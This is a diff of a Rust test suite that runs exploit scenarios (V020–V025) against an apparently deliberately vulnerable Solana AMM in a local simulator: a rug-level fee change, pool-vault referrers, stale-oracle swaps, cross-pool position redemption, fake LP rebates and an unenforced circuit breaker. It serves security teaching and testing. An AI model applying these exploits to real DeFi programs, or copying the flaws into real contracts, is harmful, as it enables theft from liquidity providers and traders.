+        let change_ix = build_change_pool_fee_ix(&state.authority.pubkey(), &state.mint_a, &state.mint_b);
+        let tx = Transaction::new_signed_with_payer(
+            &[request_ix, change_ix],
+            Some(&state.authority.pubkey()),
+            &[&state.authority],
+            state.svm.latest_blockhash(),
+        );
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut FeeChangeState) -> u64 {
+        assert_eq!(get_pool_fee_basis_points(&state.svm, &state.mint_a, &state.mint_b, POOL_FEE_TIER), RUG_FEE_BPS);
+        println!("[EXPLOIT] Fee is now 5000bp (50%) - no notice period");
+
+        // Victim's swap lands with a loose slippage limit
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let swap_ix = build_swap_tokens_ix(
+            &state.victim.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            FEE_CHANGE_SWAP_AMOUNT,
+            0,
+            expiration,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[swap_ix],
+            Some(&state.victim.pubkey()),
+            &[&state.victim],
+            state.svm.latest_blockhash(),
+        );
+        let result = state.svm.send_transaction(tx);
+        assert!(result.is_ok(), "Victim swap failed: {:?}", result.err());
+
+        let victim_b: spl_token::state::Account = get_spl_account(&state.svm, &state.victim_ata_b).unwrap();
+        println!();
+        println!("[RESULT] Victim expected: ~9,870,000 B (30bp fee)");
+        println!("[RESULT] Victim received: {} B", victim_b.amount);
+        assert!(victim_b.amount < FEE_CHANGE_SWAP_AMOUNT / 2, "Victim should lose half the swap to fees");
+
+        println!("[IMPACT] Half of the victim's swap was taken as fees");
+        println!("[IMPACT] LPs and traders never had a chance to react");
+
+        // Fee charged above the 30bp the victim signed up for
+        FEE_CHANGE_SWAP_AMOUNT * (RUG_FEE_BPS as u64 - 30) / 10_000
+    }
+}
 
-    // Transfer donation to vault A
-    let transfer_a_ix = spl_token::instruction::transfer(
-        &spl_token::ID,
-        &attacker_ata_a,
-        &vault_a,
-        &attacker.pubkey(),
-        &[],
-        donation_amount,
-    ).unwrap();
+#[test]
+fn test_exploit_instant_fee_change() {
+    run_exploit(&InstantFeeChange);
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[transfer_a_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+struct EmergencyWithdrawState {
+    svm: LiteSVM,
+    authority: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    vault_a: Pubkey,
+    lp_amount: u64,
+}
 
-    // Transfer donation to vault B
-    let transfer_b_ix = spl_token::instruction::transfer(
-        &spl_token::ID,
-        &attacker_ata_b,
-        &vault_b,
-        &attacker.pubkey(),
-        &[],
-        donation_amount,
-    ).unwrap();
+// EXPLOIT: V020 - emergency_withdraw_enabled never checked
+// Demonstrates: LPs exit a frozen pool the authority never opened for exits
+struct EmergencyWithdrawFlagIgnored;
+
+const EMERGENCY_LIQUIDITY: u64 = 1_000_000_000;
+
+impl ExploitScenario for EmergencyWithdrawFlagIgnored {
+    type State = EmergencyWithdrawState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V020",
+            title: "Emergency Withdraw Flag Ignored",
+            severity: Severity::Medium,
+            lesson: "An opt-in safety flag must be checked where it is consumed",
+        }
+    }
+
+    fn setup(&self) -> EmergencyWithdrawState {
+        println!("This test demonstrates how an unchecked opt-in flag turns a full freeze");
+        println!("into a bank run: any LP can exit a locked pool at any time.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        let (mint_a, mint_b) = setup_pool_with_liquidity(&mut svm, &authority, EMERGENCY_LIQUIDITY);
+        let (pool_config, _) = derive_pool_config_pda(&mint_a, &mint_b, POOL_FEE_TIER);
+        let (lp_mint, _) = derive_lp_mint_pda(&pool_config);
+        let lp_ata = spl_associated_token_account::get_associated_token_address(
+            &authority.pubkey(),
+            &lp_mint,
+        );
+        let vault_a = derive_vault(&mint_a, &mint_b, &mint_a);
+        let lp_account: spl_token::state::Account = get_spl_account(&svm, &lp_ata).unwrap();
+        println!("[Setup] Pool seeded, LP holds {} LP tokens", lp_account.amount);
+
+        // Authority freezes the pool; emergency withdraw is left disabled
+        let lock_ix = build_lock_pool_ix(&authority.pubkey(), &mint_a, &mint_b);
+        let tx = Transaction::new_signed_with_payer(
+            &[lock_ix],
+            Some(&authority.pubkey()),
+            &[&authority],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+        println!("[Setup] Pool locked for incident response, emergency withdraw NOT enabled");
+
+        EmergencyWithdrawState { svm, authority, mint_a, mint_b, vault_a, lp_amount: lp_account.amount }
+    }
+
+    fn exploit(&self, state: &mut EmergencyWithdrawState) -> TransactionResult {
+        // EXPLOIT: Exit anyway
+        println!();
+        println!("[EXPLOIT] LP calls emergency_withdraw for their whole position");
+        let emergency_ix =
+            build_emergency_withdraw_ix(&state.authority.pubkey(), &state.mint_a, &state.mint_b, state.lp_amount);
+        let tx = Transaction::new_signed_with_payer(
+            &[emergency_ix],
+            Some(&state.authority.pubkey()),
+            &[&state.authority],
+            state.svm.latest_blockhash(),
+        );
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut EmergencyWithdrawState) -> u64 {
+        let vault_a_after: spl_token::state::Account = get_spl_account(&state.svm, &state.vault_a).unwrap();
+        println!();
+        println!("[RESULT] Emergency withdraw succeeded while disabled");
+        println!("[RESULT] Vault A: {} -> {}", EMERGENCY_LIQUIDITY, vault_a_after.amount);
+        assert!(vault_a_after.amount < EMERGENCY_LIQUIDITY / 1000, "Vault should be emptied");
+
+        println!("[IMPACT] The freeze protects nobody - first LPs out take a full share");
+        println!("[IMPACT] LPs who respect the pause absorb the whole incident loss");
+
+        // The LP only took their own share; the loss lands on whoever stays
+        0
+    }
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[transfer_b_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+#[test]
+fn test_exploit_emergency_withdraw_flag_ignored() {
+    run_exploit(&EmergencyWithdrawFlagIgnored);
+}
 
-    println!("[EXPLOIT STEP 2] Donated {} tokens to each vault", donation_amount);
-    println!("[EXPLOIT STEP 2] Pool now has ~1B A + ~1B B, but LP supply is still tiny");
-    println!("[EXPLOIT STEP 2] Each LP token now represents huge amount of underlying");
+struct ReferrerState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    vault_a: Pubkey,
+    payout_logged: bool,
+}
 
-    // EXPLOIT STEP 3: Victim tries to deposit reasonable amount
-    println!();
-    println!("[EXPLOIT STEP 3] Victim deposits reasonable amount");
+// EXPLOIT: V021 - Referrer account can be a pool vault
+// Demonstrates: Referral payouts logged as paid while the tokens never move
+struct ReferrerIsVault;
+
+const REFERRER_LIQUIDITY: u64 = 1_000_000_000;
+const REFERRER_SWAP_AMOUNT: u64 = 10_000_000;
+
+impl ExploitScenario for ReferrerIsVault {
+    type State = ReferrerState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V021",
+            title: "Pool Vault as Referrer",
+            severity: Severity::Medium,
+            lesson: "Fee recipients must never be the protocol's own vaults",
+        }
+    }
+
+    fn setup(&self) -> ReferrerState {
+        println!("This test demonstrates how accepting a pool vault as the referrer turns");
+        println!("the referral payout into a self-transfer that corrupts fee accounting.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        // 30bp fee, referrer share at the 50% cap
+        let (mint_a, mint_b) = setup_pool_with_referral_fee(
+            &mut svm,
+            &authority,
+            REFERRER_LIQUIDITY,
+            REFERRER_LIQUIDITY,
+            5000,
+        );
+        let vault_a = derive_vault(&mint_a, &mint_b, &mint_a);
+        println!("[Setup] Pool created with 30bp fee, 5000bp referral share");
+
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, REFERRER_SWAP_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+
+        ReferrerState { svm, attacker, mint_a, mint_b, vault_a, payout_logged: false }
+    }
+
+    fn exploit(&self, state: &mut ReferrerState) -> TransactionResult {
+        // EXPLOIT: Name the input vault as the referrer
+        println!();
+        println!("[EXPLOIT] Swapping {} A with the token A vault as referrer", REFERRER_SWAP_AMOUNT);
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let swap_ix = build_swap_tokens_ix_with_referrer(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            REFERRER_SWAP_AMOUNT,
+            0,
+            expiration,
+            &state.vault_a,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[swap_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            state.svm.latest_blockhash(),
+        );
+        let result = state.svm.send_transaction(tx);
+
+        // 10,000,000 * 30 * 5000 / 10_000^2 = 15,000
+        if let Ok(meta) = &result {
+            state.payout_logged = meta.logs.iter().any(|log| log.contains("Referral fee paid: 15000"));
+        }
+        result
+    }
+
+    fn assert_impact(&self, state: &mut ReferrerState) -> u64 {
+        let reported_referral = 15_000;
+        let vault_a_after: spl_token::state::Account = get_spl_account(&state.svm, &state.vault_a).unwrap();
+
+        println!();
+        println!("[RESULT] Program logged a referral payout of {} A", reported_referral);
+        println!("[RESULT] Vault A: {} -> {} (nothing left the vault)", REFERRER_LIQUIDITY, vault_a_after.amount);
+        assert!(state.payout_logged, "Referral payout should be logged");
+        assert_eq!(vault_a_after.amount, REFERRER_LIQUIDITY + REFERRER_SWAP_AMOUNT);
+
+        println!("[IMPACT] Referral accounting records payouts that never happened");
+        println!("[IMPACT] Indexers and off-chain reward programs credit fees to a pool vault");
+
+        // Accounting corruption only; no tokens leave the pool
+        0
+    }
+}
 
-    let victim_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_a)
-        .owner(&victim.pubkey())
-        .send()
-        .unwrap();
-    let victim_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_b)
-        .owner(&victim.pubkey())
-        .send()
-        .unwrap();
+#[test]
+fn test_exploit_referrer_is_vault() {
+    run_exploit(&ReferrerIsVault);
+}
 
-    let victim_amount = 100_000_000; // 100M units
-    MintTo::new(&mut svm, &authority, &mint_a, &victim_ata_a, victim_amount)
-        .owner(&authority)
-        .send()
-        .unwrap();
-    MintTo::new(&mut svm, &authority, &mint_b, &victim_ata_b, victim_amount)
-        .owner(&authority)
-        .send()
-        .unwrap();
+struct StaleOracleState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    price_feed: Pubkey,
+    attacker_ata_b: Pubkey,
+}
 
-    let deposit_ix = build_deposit_liquidity_ix(
-        &victim.pubkey(),
+// EXPLOIT: V022 - Oracle guard accepts stale prices
+// Demonstrates: Selling into a guarded pool at a price the market abandoned an hour ago
+struct StaleOracleAccepted;
+
+const ORACLE_POOL_LIQUIDITY: u64 = 1_000_000_000_000;
+const ORACLE_SWAP_AMOUNT: u64 = 5_000_000_000;
+const ORACLE_STALE_SECONDS: u64 = 3_600;
+
+impl ExploitScenario for StaleOracleAccepted {
+    type State = StaleOracleState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V022",
+            title: "Stale Oracle Price Accepted",
+            severity: Severity::High,
+            lesson: "A price guard must reject prices older than the feed's staleness limit",
+        }
+    }
+
+    fn setup(&self) -> StaleOracleState {
+        println!("This test demonstrates how an oracle guard that skips the staleness check");
+        println!("keeps a pool trading at a price the market left behind.");
+        println!();
+
+        let mut svm = setup_svm_with_oracle();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        // 1,000 A / 1,000 B: pool price 1 B per A
+        let (mint_a, mint_b) =
+            setup_pool_with_liquidity(&mut svm, &authority, ORACLE_POOL_LIQUIDITY);
+
+        // Feed at 1.000000 B per A, fresh for 60s, guard at 200bp
+        let price_feed = derive_price_feed(&authority.pubkey(), 1);
+        let init_feed_ix = build_initialize_feed_ix(&authority.pubkey(), 1, -6, 60, 100);
+        send_tx_expect_success(&mut svm, init_feed_ix, &authority, &[&authority]);
+        let push_ix = build_push_price_ix(&authority.pubkey(), &price_feed, 1_000_000, 1_000);
+        send_tx_expect_success(&mut svm, push_ix, &authority, &[&authority]);
+        let guard_ix =
+            build_set_oracle_guard_ix(&authority.pubkey(), &mint_a, &mint_b, &price_feed, 200);
+        send_tx_expect_success(&mut svm, guard_ix, &authority, &[&authority]);
+        println!("[Setup] Pool at 1:1, oracle at 1.000000 B per A, 200bp guard");
+
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        let attacker_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_b)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, ORACLE_SWAP_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+
+        // Publishers go quiet while token A halves in value everywhere else
+        advance_time(&mut svm, ORACLE_STALE_SECONDS);
+        println!("[Setup] No price pushed for {}s (feed limit: 60s)", ORACLE_STALE_SECONDS);
+        println!("[Setup] Market now values A at 0.5 B; the feed still says 1.0");
+
+        StaleOracleState { svm, attacker, mint_a, mint_b, price_feed, attacker_ata_b }
+    }
+
+    fn exploit(&self, state: &mut StaleOracleState) -> TransactionResult {
+        // EXPLOIT: Sell A at the stale oracle price, staying inside the deviation band
+        println!();
+        println!("[EXPLOIT] Selling {} A into the pool against the stale feed", ORACLE_SWAP_AMOUNT);
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let swap_ix = build_swap_tokens_ix_with_price_feed(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            ORACLE_SWAP_AMOUNT,
+            1,
+            expiration,
+            &state.price_feed,
+        );
+        send_ix(&mut state.svm, swap_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut StaleOracleState) -> u64 {
+        let attacker_b: spl_token::state::Account =
+            get_spl_account(&state.svm, &state.attacker_ata_b).unwrap();
+        let market_value = ORACLE_SWAP_AMOUNT / 2;
+        assert!(attacker_b.amount > market_value, "Attacker should beat the market price");
+
+        let profit = attacker_b.amount - market_value;
+        println!();
+        println!(
+            "[RESULT] Attacker received {} B for A worth {} B",
+            attacker_b.amount, market_value
+        );
+        println!("[IMPACT] LPs paid {} B above market, the guard never noticed", profit);
+        println!("[IMPACT] Secure version rejects the swap with StaleOraclePrice");
+
+        profit
+    }
+}
+
+#[test]
+fn test_exploit_stale_oracle_accepted() {
+    run_exploit(&StaleOracleAccepted);
+}
+
+struct CrossPoolPositionState {
+    svm: LiteSVM,
+    victim: Keypair,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    victim_asset: Keypair,
+    attacker_asset: Keypair,
+}
+
+// EXPLOIT: V023 - LP position not bound to its pool
+// Demonstrates: Redeeming a worthless pool's position NFT against a real pool's escrowed LP
+struct CrossPoolPositionRedeemed;
+
+const POSITION_POOL_LIQUIDITY: u64 = 1_000_000_000_000;
+const POSITION_DEPOSIT: u64 = 100_000_000_000;
+
+// Create a pool seeded by `owner` and open a POSITION_DEPOSIT position in it
+// Returns (mint_a, mint_b, position asset)
+fn setup_pool_with_position(svm: &mut LiteSVM, owner: &Keypair) -> (Pubkey, Pubkey, Keypair) {
+    let (mint_a, mint_b) = setup_pool_with_liquidity(svm, owner, POSITION_POOL_LIQUIDITY);
+    for mint in [&mint_a, &mint_b] {
+        let owner_ata = spl_associated_token_account::get_associated_token_address(
+            &owner.pubkey(),
+            mint,
+        );
+        MintTo::new(svm, owner, mint, &owner_ata, POSITION_DEPOSIT)
+            .owner(owner)
+            .send()
+            .unwrap();
+    }
+
+    let asset = Keypair::new();
+    let expiration = svm.get_sysvar::<Clock>().unix_timestamp + 60;
+    let deposit_ix = build_deposit_position_ix(
+        &owner.pubkey(),
+        &asset.pubkey(),
         &mint_a,
         &mint_b,
-        victim_amount,
-        victim_amount,
-        victim_amount,
-        victim_amount,
+        POSITION_DEPOSIT,
+        POSITION_DEPOSIT,
+        POSITION_DEPOSIT,
+        POSITION_DEPOSIT,
         expiration,
     );
-    let tx = Transaction::new_signed_with_payer(
-        &[deposit_ix],
-        Some(&victim.pubkey()),
-        &[&victim],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-
-    println!("[EXPLOIT STEP 3] Victim deposited {} A + {} B", victim_amount, victim_amount);
-
-    // Check victim's LP tokens
-    let (lp_mint, _) = derive_lp_mint_pda(&pool_config);
-    let victim_lp_ata = spl_associated_token_account::get_associated_token_address(&victim.pubkey(), &lp_mint);
-    let victim_lp_account: spl_token::state::Account = get_spl_account(&svm, &victim_lp_ata)
-        .expect("LP account should exist");
+    send_tx_expect_success(svm, deposit_ix, owner, &[owner, &asset]);
 
-    println!();
-    println!("[RESULT] Victim's LP token balance: {}", victim_lp_account.amount);
-    println!("[IMPACT] Due to rounding in proportional calculation, victim may receive 0 or very few LP tokens");
-    println!("[IMPACT] Victim deposited {} tokens but LP value is so inflated they get almost nothing", victim_amount);
-    println!("[IMPACT] Attacker can now withdraw all liquidity, stealing victim's deposit");
+    (mint_a, mint_b, asset)
+}
 
-    println!();
-    println!("[LESSON] MINIMUM_LIQUIDITY must be high enough (e.g., 1000) to prevent inflation attacks");
-    println!("[LESSON] Secure version locks 1000 LP tokens to make this attack economically infeasible");
-    println!("================================================================================\n");
+impl ExploitScenario for CrossPoolPositionRedeemed {
+    type State = CrossPoolPositionState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V023",
+            title: "LP Position Redeemable Against Any Pool",
+            severity: Severity::High,
+            lesson: "A position record must be checked against the pool it is redeemed from",
+        }
+    }
+
+    fn setup(&self) -> CrossPoolPositionState {
+        println!("This test demonstrates how a position NFT that is never tied to its pool");
+        println!("lets an attacker redeem a worthless pool's position against a real pool.");
+        println!();
+
+        let mut svm = setup_svm_with_mpl_core();
+        let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        // Victim opens a 100 A / 100 B position in a real 1,000 / 1,000 pool
+        let (mint_a, mint_b, victim_asset) = setup_pool_with_position(&mut svm, &victim);
+        println!(
+            "[Setup] Victim holds a {} A / {} B position NFT",
+            POSITION_DEPOSIT, POSITION_DEPOSIT
+        );
+
+        // Attacker mints two worthless tokens and mirrors the pool and the position
+        let (_, _, attacker_asset) = setup_pool_with_position(&mut svm, &attacker);
+        let (victim_position, _) = derive_position_pda(&victim_asset.pubkey());
+        let (attacker_position, _) = derive_position_pda(&attacker_asset.pubkey());
+        // Position.lp_tokens follows the discriminator, pool_config and asset
+        let victim_lp = svm.get_account(&victim_position).unwrap().data[72..80].to_vec();
+        let attacker_lp = svm.get_account(&attacker_position).unwrap().data[72..80].to_vec();
+        assert_eq!(victim_lp, attacker_lp, "Mirrored position should record the same LP");
+        println!("[Setup] Attacker holds a position in a worthless pool with the same LP amount");
+
+        CrossPoolPositionState {
+            svm,
+            victim,
+            attacker,
+            mint_a,
+            mint_b,
+            victim_asset,
+            attacker_asset,
+        }
+    }
+
+    fn exploit(&self, state: &mut CrossPoolPositionState) -> TransactionResult {
+        // EXPLOIT: Pass the worthless position with the real pool's accounts
+        println!();
+        println!("[EXPLOIT] Redeeming the worthless position against the victim's pool");
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let withdraw_ix = build_withdraw_position_ix(
+            &state.attacker.pubkey(),
+            &state.attacker_asset.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            0,
+            0,
+            expiration,
+        );
+        send_ix(&mut state.svm, withdraw_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut CrossPoolPositionState) -> u64 {
+        let attacker_ata_a = spl_associated_token_account::get_associated_token_address(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+        );
+        let attacker_a: spl_token::state::Account =
+            get_spl_account(&state.svm, &attacker_ata_a).unwrap();
+        assert!(attacker_a.amount > 0, "Attacker should receive the real pool's token A");
+
+        let lp_vault: spl_token::state::Account = get_spl_account(
+            &state.svm,
+            &derive_position_lp_vault(&state.mint_a, &state.mint_b),
+        )
+        .unwrap();
+        assert_eq!(lp_vault.amount, 0, "Victim's escrowed LP should be gone");
+
+        // The victim's NFT now points at LP tokens that no longer exist
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let withdraw_ix = build_withdraw_position_ix(
+            &state.victim.pubkey(),
+            &state.victim_asset.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            0,
+            0,
+            expiration,
+        );
+        let victim_result = send_ix(&mut state.svm, withdraw_ix, &state.victim);
+        assert!(victim_result.is_err(), "Victim should no longer be able to redeem");
+
+        println!();
+        println!(
+            "[RESULT] Attacker received {} A (and as much B) from the real pool",
+            attacker_a.amount
+        );
+        println!("[IMPACT] Victim's position NFT is unredeemable; its LP tokens were burned");
+        println!("[IMPACT] Secure version rejects the withdrawal with PositionPoolMismatch");
+
+        attacker_a.amount
+    }
 }
 
 #[test]
-fn test_exploit_unauthorized_lock() {
-    // EXPLOIT: V006 - No authorization check on lock_pool
-    // Demonstrates: Anyone can lock any pool (DoS attack)
-    println!("\n================================================================================");
-    println!("EXPLOIT TEST: Unauthorized Pool Lock (V006 - No Authorization Check)");
-    println!("================================================================================");
-    println!("This test demonstrates DoS attack via unauthorized pool locking.");
-    println!();
-
-    let mut svm = setup_svm();
-    let legitimate_authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    println!("[Setup] Legitimate authority and attacker funded");
+fn test_exploit_cross_pool_position_redeemed() {
+    run_exploit(&CrossPoolPositionRedeemed);
+}
 
-    // Create pool by legitimate authority
-    let mint_a = CreateMint::new(&mut svm, &legitimate_authority)
-        .authority(&legitimate_authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
-        .unwrap();
-    let mint_b = CreateMint::new(&mut svm, &legitimate_authority)
-        .authority(&legitimate_authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
-        .unwrap();
+struct FakeLpRebateState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    fake_lp_account: Pubkey,
+    rebate_logged: bool,
+}
 
-    let init_ix = build_initialize_pool_ix(&legitimate_authority.pubkey(), &mint_a, &mint_b, 30);
-    let tx = Transaction::new_signed_with_payer(
-        &[init_ix],
-        Some(&legitimate_authority.pubkey()),
-        &[&legitimate_authority],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-    println!("[Setup] Pool created by legitimate authority");
+// EXPLOIT: V024 - Fee rebate LP balance read from any account
+// Demonstrates: A self-minted token balance earns the LP holder fee rebate
+struct FakeLpRebate;
+
+const REBATE_POOL_LIQUIDITY: u64 = 10_000_000_000;
+const REBATE_SWAP_AMOUNT: u64 = 1_000_000_000;
+
+impl ExploitScenario for FakeLpRebate {
+    type State = FakeLpRebateState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V024",
+            title: "Fake LP Balance for Fee Rebate",
+            severity: Severity::High,
+            lesson: "Balances that grant privileges must come from the user's own account of the right mint",
+        }
+    }
+
+    fn setup(&self) -> FakeLpRebateState {
+        println!("This test demonstrates how reading the LP balance from an unchecked account");
+        println!("lets anyone swap at the LP holder rebate without providing liquidity.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        let (mint_a, mint_b) = setup_pool_with_liquidity(&mut svm, &authority, REBATE_POOL_LIQUIDITY);
+        println!("[Setup] Pool created with 30bp fee, attacker holds no LP tokens");
+
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, REBATE_SWAP_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+
+        // Worthless mint the attacker controls, with a balance far above the threshold
+        let fake_mint = CreateMint::new(&mut svm, &attacker)
+            .authority(&attacker.pubkey())
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        let fake_lp_account = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &fake_mint)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &attacker, &fake_mint, &fake_lp_account, 1_000_000_000_000)
+            .owner(&attacker)
+            .send()
+            .unwrap();
+        println!("[Setup] Attacker minted 1,000 tokens of a self-made mint");
+
+        FakeLpRebateState { svm, attacker, mint_a, mint_b, fake_lp_account, rebate_logged: false }
+    }
+
+    fn exploit(&self, state: &mut FakeLpRebateState) -> TransactionResult {
+        // EXPLOIT: Pass the fake token account as the LP balance
+        println!();
+        println!("[EXPLOIT] Swapping {} A with the fake token account as LP balance", REBATE_SWAP_AMOUNT);
+        let expiration = state.svm.get_sysvar::<Clock>().unix_timestamp + 60;
+        let swap_ix = build_swap_with_rebate_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            REBATE_SWAP_AMOUNT,
+            0,
+            expiration,
+            &state.fake_lp_account,
+        );
+        let result = send_tx(&mut state.svm, &[swap_ix], &state.attacker, &[&state.attacker]);
+
+        if let Ok(meta) = &result {
+            state.rebate_logged = meta.logs.iter().any(|log| log.contains("Swap fee: 15 basis points"));
+        }
+        result
+    }
+
+    fn assert_impact(&self, state: &mut FakeLpRebateState) -> u64 {
+        let (pool_config, _) = derive_pool_config_pda(&state.mint_a, &state.mint_b, POOL_FEE_TIER);
+        let (lp_mint, _) = derive_lp_mint_pda(&pool_config);
+        let attacker_lp_ata = spl_associated_token_account::get_associated_token_address(
+            &state.attacker.pubkey(),
+            &lp_mint,
+        );
+
+        println!();
+        assert!(state.rebate_logged, "Swap should be priced at the rebated fee");
+        assert!(state.svm.get_account(&attacker_lp_ata).is_none(), "Attacker never held LP tokens");
+        println!("[RESULT] Swap priced at 15bp instead of 30bp");
+
+        // 1,000,000,000 * 15 / 10_000 = 1,500,000
+        let fee_waived = REBATE_SWAP_AMOUNT * 15 / 10_000;
+        println!("[IMPACT] {} A of fees LPs should have earned were waived", fee_waived);
+        println!("[IMPACT] Every swapper can claim the rebate, so LP fee income halves");
+
+        fee_waived
+    }
+}
 
-    println!();
-    println!("[EXPLOIT] Attacker (NOT the pool authority) attempts to lock pool");
-    println!("[EXPLOIT] In secure version, this should FAIL with authorization error");
-    println!("[EXPLOIT] In vulnerable version, ANYONE can lock ANY pool");
+#[test]
+fn test_exploit_fake_lp_rebate() {
+    run_exploit(&FakeLpRebate);
+}
 
-    // EXPLOIT: Attacker locks the pool
-    let lock_ix = build_lock_pool_ix(&attacker.pubkey(), &mint_a, &mint_b);
-    let tx = Transaction::new_signed_with_payer(
-        &[lock_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
-        svm.latest_blockhash(),
-    );
+struct CircuitBreakerBypassState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    vault_b_before: u64,
+}
 
-    let result = svm.send_transaction(tx);
+// EXPLOIT: V025 - Circuit breaker never enforced
+// Demonstrates: One giant swap of a collapsed token drains a pool capped at 5% price impact
+struct CircuitBreakerBypass;
+
+const BREAKER_POOL_LIQUIDITY: u64 = 1_000_000_000_000;
+const BREAKER_MAX_PRICE_IMPACT_BPS: u16 = 500;
+const BREAKER_DUMP_AMOUNT: u64 = 99_000_000_000_000;
+
+impl ExploitScenario for CircuitBreakerBypass {
+    type State = CircuitBreakerBypassState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V025",
+            title: "Circuit Breaker Never Enforced",
+            severity: Severity::High,
+            lesson: "A configured safety limit only protects the pool if every swap checks it",
+        }
+    }
+
+    fn setup(&self) -> CircuitBreakerBypassState {
+        println!("This test demonstrates how a circuit breaker that no swap reads");
+        println!("lets a single swap empty the output vault.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        // 1,000 A / 1,000 B
+        let (mint_a, mint_b) =
+            setup_pool_with_liquidity(&mut svm, &authority, BREAKER_POOL_LIQUIDITY);
+
+        let breaker_ix = build_set_circuit_breaker_ix(
+            &authority.pubkey(),
+            &mint_a,
+            &mint_b,
+            BREAKER_MAX_PRICE_IMPACT_BPS,
+            true,
+        );
+        send_tx_expect_success(&mut svm, breaker_ix, &authority, &[&authority]);
+        println!(
+            "[Setup] Pool at 1:1, circuit breaker at {}bp with auto-lock",
